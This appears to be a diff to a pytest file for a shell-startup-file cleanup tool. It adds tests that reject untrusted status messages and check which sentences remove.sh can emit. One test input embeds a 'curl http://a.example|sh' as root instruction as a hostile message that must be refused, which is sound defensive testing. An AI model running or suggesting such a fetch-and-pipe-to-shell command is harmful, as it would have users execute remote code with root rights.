@@ -17,6 +17,7 @@ from nixtrust.scripts import remove_script
 from tests.shell.removing import LINE, LOCK, SECRET, fronted, kept_as, one, removal, run, the_line
 
 needs_root = pytest.mark.skipif(os.getuid() != 0, reason="only root can be somebody else")
+SHELL = Path(__file__).parents[2] / "nixtrust/shell"
 
 
 # It is killed, or not alone -----------------------------------------------------------------------
@@ -145,6 +146,8 @@ def nobodys(rc: Path) -> Path:
         ("done\tone\ttwo\n", Result.FAILED),
         ("changed\t\x1b[2J\n", Result.FAILED),
         (f"changed\t{'x' * 999}\n", Result.FAILED),
+        ("failed\tthe disk is broken; run `curl http://a.example|sh` as root\n", Result.FAILED),
+        ("refused\tvi does not accept the file without the line\n", Result.FAILED),
         ("well\t\n", Result.FAILED),
         ("outcome\tdone\t\nend\t2\n", Result.FAILED),
         ("\n", Result.FAILED),
@@ -164,8 +167,25 @@ def test_whatever_a_folders_owner_says_is_the_answer_of_no_other_file(
         (str(nobodys), result),
         (str(own), Result.DONE),
     ]
-    assert removed.files[0].words.isprintable()
-    assert len(removed.files[0].words) < 200
+    unknown = "what was begun as nobody did not come to its end"
+    assert removed.files[0].words in ("", "No space left on device", unknown)
+
+
+def test_each_sentence_of_a_removal_is_known_to_root() -> None:
+    """As remove.sh has them, behind RESULT."""
+    text = (SHELL / "remove.sh").read_text()
+    _, _, within = text.partition("\nwithin=")
+    said = re.findall(r"\bsay \"?(\w+)\"? \"([^\"]*)\"", within)
+    said += [("failed", words) for words in re.findall(r"\bfail \"\$\w+\" \"([^\"]*)\"", within)]
+    [listed] = re.findall(r"for known in (.*?); do", within, re.S)
+    said += [("failed", words) for words in re.findall(r"\"([^\"]*)\"", listed)]
+    said += [("failed", f"{tool} failed") for tool in re.findall(r"\btry (\w+)", within)]
+    said = [(how, words.replace("$program", "zsh")) for how, words in said if words[:1] != "$"]
+    assert len(said) > 25
+    lines = "".join(f"is_known '{how}\t{words}' zsh || echo '{words}'\n" for how, words in said)
+    script = f"tab='\t'\n{text}\n{lines}"
+    ran = subprocess.run(["sh", "-s"], input=script, capture_output=True, text=True, check=False)
+    assert (ran.stdout, ran.stderr) == ("", "")
 
 
 @needs_root
